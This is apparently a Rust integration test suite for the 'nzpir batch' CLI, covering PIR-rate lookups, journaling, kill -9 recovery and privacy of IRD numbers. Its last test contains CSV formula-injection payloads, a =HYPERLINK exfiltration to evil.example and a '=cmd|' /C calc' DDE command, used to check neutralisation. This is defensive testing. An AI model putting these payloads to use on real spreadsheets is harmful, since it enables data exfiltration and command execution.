//! End to end: `nzpir batch` against strict sandboxes, including a `kill -9`
//! in the middle of a run and `--resume` after it.

mod common;

use std::collections::{HashMap, HashSet};
use std::path::Path;
use std::time::{Duration, Instant};

use common::*;
use nzpir::batch::Journal;
use nzpir_sandbox::{Fault, FaultKind, SandboxOptions};

fn batch(sb: &nzpir_sandbox::Sandbox, input: &Path, out: &Path, extra: &[&str]) -> Run {
    let mut cmd = nzpir();
    cmd.arg("batch")
        .arg(input)
        .arg("--out")
        .arg(out)
        .args(config_args(sb))
        .args(extra);
    run(&mut cmd)
}

fn rows(csv_text: &str) -> Vec<HashMap<String, String>> {
    let mut r = csv::Reader::from_reader(csv_text.as_bytes());
    let header: Vec<String> = r
        .headers()
        .expect("header")
        .iter()
        .map(str::to_owned)
        .collect();
    r.records()
        .map(|rec| {
            let rec = rec.expect("record");
            header
                .iter()
                .cloned()
                .zip(rec.iter().map(str::to_owned))
                .collect()
        })
        .collect()
}

#[test]
fn mixed_rows_in_input_order() {
    let sb = strict();
    let dir = tempfile::tempdir().expect("tempdir");
    let input = dir.path().join("members.csv");
    let out = dir.path().join("rates.csv");
    let mut text = Vec::new();
    text.extend_from_slice(b"MemberNo,IRD,PieIRD,FirstName,LastName,Notes\n");
    text.extend_from_slice(b"M1,139276507,125000002,,,first\n"); // 28
    text.extend_from_slice(b"M2,13-927-6310,125000002,,,\"quoted, with comma\"\n"); // 10.5
    text.extend_from_slice(b"M3,139276507,125000002,,,duplicate of M1\n"); // 28, no call
    text.extend_from_slice(b"M4,049091850,125000002,,,\n"); // not found
    text.extend_from_slice(b"M5,136410133,125000002,,,bad check digit\n"); // INVALID
    text.extend_from_slice(b"M6,139276272,125000002\n"); // CSV: 3 fields
    text.extend_from_slice(b"M7,139276272,125000002,,,not a member\n"); // EV1043
    text.extend_from_slice(b"M8,139439976,125000002,\xe9,,latin-1 byte\n"); // CSV: encoding
    text.extend_from_slice(b"M9,139439976,,Ann,,no last name\n"); // INVALID (PieIRD from the flag)
    text.extend_from_slice(b"M10,139439976,,,,pie from the flag\n"); // 10.5
    std::fs::write(&input, &text).expect("write");

    let r = batch(
        &sb,
        &input,
        &out,
        &["--pie-ird", SCHEME, "--progress", "lines"],
    );
    // The worst class among the failed rows: authorisation (EV1043), exit 4.
    r.expect_code(4);
    let written = read(&out);
    let header = written.lines().next().expect("header");
    assert_eq!(
        header,
        "MemberNo,IRD,PieIRD,FirstName,LastName,Notes,SuggestedPirRate,PirRateNotFound,ErrorCode,ErrorMessage"
    );
    let rows = rows(&written);
    let ids: Vec<&str> = rows.iter().map(|r| r["MemberNo"].as_str()).collect();
    assert_eq!(
        ids,
        ["M1", "M2", "M3", "M4", "M5", "", "M7", "M8", "M9", "M10"]
    );
    let cell = |i: usize, c: &str| rows[i][c].as_str();
    assert_eq!(
        (cell(0, "SuggestedPirRate"), cell(0, "PirRateNotFound")),
        ("28", "false")
    );
    assert_eq!(cell(1, "SuggestedPirRate"), "10.5");
    assert_eq!(cell(1, "Notes"), "quoted, with comma");
    assert_eq!(
        cell(1, "IRD"),
        "13-927-6310",
        "input cells are carried as given"
    );
    assert_eq!(cell(2, "SuggestedPirRate"), "28");
    assert_eq!(
        (cell(3, "SuggestedPirRate"), cell(3, "PirRateNotFound")),
        ("", "true")
    );
    assert_eq!(cell(4, "ErrorCode"), "INVALID");
    assert_eq!(
        cell(4, "ErrorMessage"),
        "invalid input: IRD fails the modulus-11 check digit"
    );
    assert_eq!(cell(5, "ErrorCode"), "CSV");
    assert!(
        cell(5, "ErrorMessage").starts_with("line 7: 3 fields"),
        "{}",
        cell(5, "ErrorMessage")
    );
    assert_eq!(cell(6, "ErrorCode"), "EV1043");
    assert_eq!(cell(7, "ErrorCode"), "CSV");
    assert!(cell(7, "ErrorMessage").starts_with("line 9: column 4 (FirstName) is not UTF-8"));
    assert_eq!(cell(7, "MemberNo"), "M8", "readable cells are carried");
    assert_eq!(cell(8, "ErrorCode"), "INVALID");
    assert_eq!(
        cell(8, "ErrorMessage"),
        "invalid input: Name.LastName is required"
    );
    assert_eq!(cell(9, "SuggestedPirRate"), "10.5");

    // Identical requests once; rows that fail locally or cannot be read, never.
    assert_eq!(sb.pir_calls_for("139276507"), 1);
    assert_eq!(sb.pir_calls_for("139276310"), 1);
    assert_eq!(sb.pir_calls_for("136410133"), 0);
    assert_eq!(
        sb.pir_calls_for("139276272"),
        1,
        "only M7; M6 could not be read"
    );
    assert_eq!(sb.pir_calls_for("139439976"), 1, "only M10");
    assert_eq!(sb.stats().pir_requests, 5);

    // Every answer was final: the journal is gone, the output is in place.
    assert!(!dir.path().join("rates.csv.journal").exists());
    assert!(!dir.path().join("rates.csv.partial").exists());
    assert!(r.stderr.contains("10 rows -> "), "{}", r.stderr);
    assert!(
        r.stderr.contains("4 rates, 1 not found, 5 failed"),
        "{}",
        r.stderr
    );
    // Progress lines count the rows that go to the lookup stage (8 of 10).
    assert!(
        r.stderr.contains("nzpir batch: 8/8 rows (100%)"),
        "{}",
        r.stderr
    );
    for ird in [
        "139276507",
        "139276310",
        "049091850",
        "139276272",
        "139439976",
        "136410133",
    ] {
        assert!(
            !r.stderr.contains(ird),
            "progress shows an IRD number: {}",
            r.stderr
        );
    }

    // A run that started once is not silently redone: the journal is gone, so
    // a new run starts afresh and overwrites; all answers are rates now.
    std::fs::write(
        &input,
        "IRD,PieIRD\n139276507,125000002\n49091850,125000002\n",
    )
    .expect("write");
    let r = batch(&sb, &input, &out, &["--progress", "none"]);
    r.expect_code(0);
    assert_eq!(
        read(&out),
        "IRD,PieIRD,SuggestedPirRate,PirRateNotFound,ErrorCode,ErrorMessage\n\
         139276507,125000002,28,false,,\n\
         49091850,125000002,,true,,\n"
    );
}

#[test]
fn ir003_rows_are_marked_and_not_retried() {
    let sb = strict_with(SandboxOptions::default().ir003_limit(2));
    let dir = tempfile::tempdir().expect("tempdir");
    let input = dir.path().join("in.csv");
    let out = dir.path().join("out.csv");
    // Three different requests about one investor.
    std::fs::write(
        &input,
        "IRD,PieIRD,FormattedName\n139276507,125000002,\"A, B\"\n139276507,125000002,\"C, D\"\n139276507,125000002,\"E, F\"\n",
    )
    .expect("write");
    let r = batch(&sb, &input, &out, &["--concurrency", "1"]);
    r.expect_code(5);
    let rows = rows(&read(&out));
    let codes: Vec<&str> = rows.iter().map(|r| r["ErrorCode"].as_str()).collect();
    assert_eq!(codes, ["", "", "IR003"]);
    assert_eq!(sb.pir_calls_for("139276507"), 3, "IR003 is not retried");
    // IR's answer is final: nothing to resume.
    assert!(!dir.path().join("out.csv.journal").exists());
}

#[test]
fn transient_failures_keep_the_journal_and_resume_retries_only_them() {
    let sb = strict();
    let dir = tempfile::tempdir().expect("tempdir");
    let input = dir.path().join("in.csv");
    let out = dir.path().join("out.csv");
    std::fs::write(
        &input,
        "IRD,PieIRD\n139276507,125000002\n139276310,125000002\n139439976,125000002\n",
    )
    .expect("write");
    // The second request to arrive is dropped; with one worker, that is row 2.
    sb.add_fault(Fault::delay(Duration::from_millis(1)).times(1));
    sb.add_fault(Fault::new(FaultKind::DropBeforeRead).times(1));
    let r = batch(
        &sb,
        &input,
        &out,
        &["--concurrency", "1", "--max-retries", "0"],
    );
    r.expect_code(7);
    let first = rows(&read(&out));
    assert_eq!(first[0]["SuggestedPirRate"], "28");
    assert_eq!(first[1]["ErrorCode"], "TRANSPORT");
    assert_eq!(first[2]["SuggestedPirRate"], "10.5");
    let journal = dir.path().join("out.csv.journal");
    assert!(journal.exists(), "kept for --resume: {}", r.stderr);
    assert!(r.stderr.contains("--resume"), "{}", r.stderr);
    // Without --resume an existing journal stops the run.
    let r = batch(&sb, &input, &out, &[]);
    r.expect_code(2);
    assert!(r.stderr.contains("--resume"), "{}", r.stderr);

    let before: Vec<u64> = ["139276507", "139276310", "139439976"]
        .iter()
        .map(|i| sb.pir_calls_for(i))
        .collect();
    let r = batch(&sb, &input, &out, &["--resume"]);
    r.expect_code(0);
    let after: Vec<u64> = ["139276507", "139276310", "139439976"]
        .iter()
        .map(|i| sb.pir_calls_for(i))
        .collect();
    assert_eq!(after[0], before[0], "answered before: not asked again");
    assert_eq!(after[2], before[2], "answered before: not asked again");
    assert_eq!(after[1], before[1] + 1, "the dropped one is tried again");
    let second = rows(&read(&out));
    assert_eq!(second.len(), 3);
    assert_eq!(second[1]["SuggestedPirRate"], "10.5");
    assert!(!journal.exists(), "every row final now");
}

#[test]
fn an_answer_about_another_investor_is_never_written_as_a_rate() {
    let sb = strict();
    let dir = tempfile::tempdir().expect("tempdir");
    let input = dir.path().join("in.csv");
    let out = dir.path().join("out.csv");
    std::fs::write(
        &input,
        "IRD,PieIRD\n139276507,125000002\n139276310,125000002\n139439976,125000002\n",
    )
    .expect("write");
    // The second request to arrive is answered for someone else.
    sb.add_fault(Fault::delay(Duration::from_millis(1)).times(1));
    sb.add_fault(Fault::new(FaultKind::OtherInvestor).times(1));
    let r = batch(&sb, &input, &out, &["--concurrency", "1"]);
    // IR server error class: exit 6.
    r.expect_code(6);
    let written = read(&out);
    let rows = rows(&written);
    assert_eq!(rows[0]["SuggestedPirRate"], "28");
    assert_eq!(rows[1]["IRD"], "139276310");
    assert_eq!(
        rows[1]["SuggestedPirRate"], "",
        "no rate for the row that asked"
    );
    assert_eq!(rows[1]["PirRateNotFound"], "");
    assert_eq!(rows[1]["ErrorCode"], "SERVER");
    assert!(
        rows[1]["ErrorMessage"].contains("another investor"),
        "{}",
        rows[1]["ErrorMessage"]
    );
    assert_eq!(rows[2]["SuggestedPirRate"], "10.5");
    // The other investor's numbers appear nowhere in the output or on stderr.
    for n in ["049091850", "136410132"] {
        assert!(!written.contains(n), "{written}");
        assert!(!r.stderr.contains(n), "{}", r.stderr);
    }
}

/// The request the CLI makes for a row with IRD and PieIRD only.
fn request(ird: &str) -> nzpir::PirRequest {
    nzpir::PirRequest::builder(ird).pie_ird(SCHEME).build()
}

#[test]
fn kill_9_then_resume_repeats_no_completed_lookup() {
    let sb = strict();
    let dir = tempfile::tempdir().expect("tempdir");
    let input = dir.path().join("register.csv");
    let out = dir.path().join("rates.csv");
    let journal = dir.path().join("rates.csv.journal");
    let mut irds: Vec<String> = ["139276507", "139276310", "139439976", "049091850"]
        .iter()
        .map(|s| (*s).to_owned())
        .collect();
    irds.extend(unknown_irds(36));
    let mut text = String::from("RowId,IRD,PieIRD\n");
    for (i, ird) in irds.iter().enumerate() {
        text.push_str(&format!("r{i},{ird},{SCHEME}\n"));
    }
    std::fs::write(&input, &text).expect("write");

    // Every answer takes 150 ms: 40 rows at 2 at a time take about 3 s.
    sb.set_fault(Fault::delay(Duration::from_millis(150)));
    let child = nzpir()
        .arg("batch")
        .arg(&input)
        .arg("--out")
        .arg(&out)
        .args(config_args(&sb))
        .args(["--concurrency", "2", "--progress", "lines"])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    // Kill it once a few lookups are journaled (a header line plus five).
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let lines = std::fs::read_to_string(&journal)
            .map(|t| t.lines().count())
            .unwrap_or(0);
        if lines >= 6 {
            break;
        }
        assert!(Instant::now() < deadline, "the batch made no progress");
        std::thread::sleep(Duration::from_millis(10));
    }
    let mut child = child;
    child.kill().expect("kill -9"); // SIGKILL: no chance to clean up
    let status = child.wait().expect("wait");
    assert!(status.code().is_none(), "killed by a signal");
    assert!(!out.exists(), "no half-written output in place");

    // What the journal says was completed before the kill (read from a copy).
    let copy = dir.path().join("journal.copy");
    std::fs::copy(&journal, &copy).expect("copy");
    let completed: HashSet<String> = {
        let j = Journal::open(&copy, true).expect("journal readable after kill -9");
        irds.iter()
            .filter(|ird| j.answer(&j.key(&request(ird))).is_some())
            .cloned()
            .collect()
    };
    assert!(completed.len() >= 5, "{}", completed.len());
    assert!(completed.len() < irds.len(), "the kill came mid-run");
    let before: HashMap<String, u64> = irds
        .iter()
        .map(|i| (i.clone(), sb.pir_calls_for(i)))
        .collect();
    for ird in &completed {
        assert_eq!(before[ird], 1, "completed once before the kill");
    }

    sb.clear_faults();
    let r = batch(
        &sb,
        &input,
        &out,
        &["--resume", "--concurrency", "2", "--progress", "lines"],
    );
    r.expect_code(4); // the non-members' EV1043
    for ird in &irds {
        let calls = sb.pir_calls_for(ird);
        if completed.contains(ird) {
            assert_eq!(calls, 1, "a completed lookup was repeated");
        } else if before[ird] == 0 {
            assert_eq!(calls, 1, "never asked before the kill: asked once now");
        } else {
            // In flight when the process died: sent, never answered to it,
            // so not a completed lookup; asked once more.
            assert_eq!((before[ird], calls), (1, 2));
        }
    }
    let in_flight = irds
        .iter()
        .filter(|i| !completed.contains(*i) && before[*i] > 0)
        .count();
    assert!(
        in_flight <= 2,
        "at most --concurrency lookups were in flight: {in_flight}"
    );

    // Every row exactly once, in input order, with its answer.
    let rows = rows(&read(&out));
    let ids: Vec<String> = rows.iter().map(|r| r["RowId"].clone()).collect();
    let expected: Vec<String> = (0..irds.len()).map(|i| format!("r{i}")).collect();
    assert_eq!(ids, expected);
    assert_eq!(rows[0]["SuggestedPirRate"], "28");
    assert_eq!(rows[1]["SuggestedPirRate"], "10.5");
    assert_eq!(rows[3]["PirRateNotFound"], "true");
    for row in &rows[4..] {
        assert_eq!(row["ErrorCode"], "EV1043", "{row:?}");
    }
    assert!(
        r.stderr
            .contains(&format!("{} from the journal", completed.len())),
        "{}",
        r.stderr
    );
    assert!(!journal.exists(), "every row final: journal removed");
    for ird in &irds {
        assert!(
            !r.stderr.contains(ird.as_str()),
            "progress shows an IRD number"
        );
    }
}

#[test]
fn unreadable_inputs_stop_before_any_call() {
    let sb = strict();
    let dir = tempfile::tempdir().expect("tempdir");
    let out = dir.path().join("out.csv");
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "Name,PieIRD\nx,125000002\n").expect("write");
    let r = batch(&sb, &input, &out, &[]);
    r.expect_code(2);
    assert!(r.stderr.contains("no IRD column"), "{}", r.stderr);
    let r = batch(&sb, &dir.path().join("missing.csv"), &out, &[]);
    r.expect_code(2);
    let r = batch(&sb, &input, &input, &[]);
    r.expect_code(2);
    assert_eq!(sb.stats().pir_requests, 0);
    assert!(!out.exists());
}

#[test]
fn hostile_error_bodies_and_formula_cells_never_reach_the_csv_as_formulas() {
    let sb = strict_with(SandboxOptions::default().ir003_limit(0));
    // What a hostile or broken server might send: a "code" that is a
    // spreadsheet formula, a message with a person's name, address and IRD.
    let hostile = r#"{"errors":[{"code":"=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")","type":"validation","message":"Gary Allen, 1 Queen St, IRD 049091850"}]}"#;
    sb.set_fault(
        Fault::new(FaultKind::Answer {
            status: 400,
            body: hostile.to_owned(),
        })
        .times(1),
    );
    let dir = tempfile::tempdir().expect("tempdir");
    let input = dir.path().join("members.csv");
    let out = dir.path().join("rates.csv");
    std::fs::write(
        &input,
        "=cmd|' /C calc'!A0,IRD,PieIRD,Note,Balance\n\
         M1,139276507,125000002,=1+1,-12.5\n\
         @SUM(A1),139276310,125000002,+64 21 555 0100,+7\n",
    )
    .expect("input");
    let r = batch(
        &sb,
        &input,
        &out,
        &["--concurrency", "1", "--progress", "none"],
    );
    let text = read(&out);
    for formula in ["=HYPERLINK", "=1+1", "=cmd"] {
        // Present only behind the neutralising quote, if at all.
        for (i, _) in text.match_indices(formula) {
            assert!(
                i > 0 && text.as_bytes()[i - 1] == b'\'',
                "unquoted {formula} in:\n{text}"
            );
        }
    }
    for private in ["Gary", "Queen", "049091850", "HYPERLINK"] {
        assert!(!text.contains(private), "{private} in:\n{text}");
        assert!(!r.stderr.contains(private), "{private} in:\n{}", r.stderr);
    }
    let rows = rows(&text);
    // The header and carried cells are neutralised; plain numbers are not.
    let first_column = "'=cmd|' /C calc'!A0";
    assert!(rows[0].contains_key(first_column), "{:?}", rows[0].keys());
    assert_eq!(rows[0]["Note"], "'=1+1");
    assert_eq!(rows[0]["Balance"], "-12.5");
    assert_eq!(rows[1][first_column], "'@SUM(A1)");
    assert_eq!(rows[1]["Note"], "'+64 21 555 0100");
    assert_eq!(rows[1]["Balance"], "+7");
    // The hostile answer is an unrecognised code, its text left out.
    let failed: Vec<_> = rows.iter().filter(|r| !r["ErrorCode"].is_empty()).collect();
    assert_eq!(failed.len(), 1, "{text}");
    assert_eq!(failed[0]["ErrorCode"], "UNRECOGNISED");
    assert!(!failed[0]["ErrorMessage"].starts_with(['=', '+', '-', '@']));
}
